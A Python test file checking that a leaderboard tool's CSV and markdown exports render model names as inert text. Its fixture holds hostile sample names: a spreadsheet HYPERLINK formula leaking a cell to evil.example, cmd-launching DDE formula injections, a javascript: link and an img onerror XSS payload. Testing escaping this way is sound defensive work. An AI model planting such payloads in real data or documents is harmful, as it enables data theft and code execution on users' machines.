"""Names in the CSV and markdown exports stay text: a spreadsheet runs no formula, a markdown
renderer (CommonMark, as GitHub's) makes no link, image or HTML of them, and nothing is
written as an HTML entity (``Zaninello & Magnini`` reads as written)."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

from markdown_it import MarkdownIt

from custom_metrics.cli import main as explain_eval
from tests.leaderboard.test_leaderboard import modern_results

NAMES = {
    "formula": '=HYPERLINK("http:evil.example?leak="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "image": "![pixel](track.png)",
    "link": "[click me](javascript:alert(1))",
    "html": "<img src=x onerror=alert(1)> & <b>bold</b>",
    "entity": "Smith &amp; Sons &lt;3",
}


def test_csv_and_markdown_keep_every_name_text(tmp_path: Path, capsys) -> None:
    for key, name in NAMES.items():
        folder = tmp_path / "runs" / key
        folder.mkdir(parents=True)
        results = modern_results(name, {"geese_noexp": 0.5}, 1.0)
        results["results"]["geese_noexp"]["delta,none"] = -0.25  # a real negative number
        (folder / "results_2026-01-01T00-00-00.json").write_text(json.dumps(results))
    board = tmp_path / "board"

    assert explain_eval(["leaderboard", str(tmp_path / "runs"), "--out", str(board), "--paper", "ibe"]) == 0

    with (board / "geese.csv").open(newline="", encoding="utf-8") as handle:
        rows = {row["model"]: row for row in csv.DictReader(handle)}
    for key, name in NAMES.items():
        shown = "'" + name if name[0] in "=+-@" else name
        assert shown in rows, (key, sorted(rows))
    numbers = [cell for row in rows.values() for cell in row.values() if cell.startswith(("-", "'-0"))]
    assert "-0.25" in numbers and "'-0.25" not in numbers  # numbers stay numeric

    text = (board / "geese.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)&(amp|lt|gt);", text)  # no entity written by the export (only names' own)
    assert "Zaninello & Magnini" in text  # GEESE's published rows name their authors plainly
    page = MarkdownIt("commonmark").enable("table").render(text)
    assert "<a " not in page and "<img" not in page and "<b>" not in page
    for name in NAMES.values():
        rendered = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
        assert rendered in page, name  # what the reader sees is the name, character for character
    assert "&lt;generator&gt;'s explanations" in MarkdownIt("commonmark").render((board / "ibe.md").read_text())
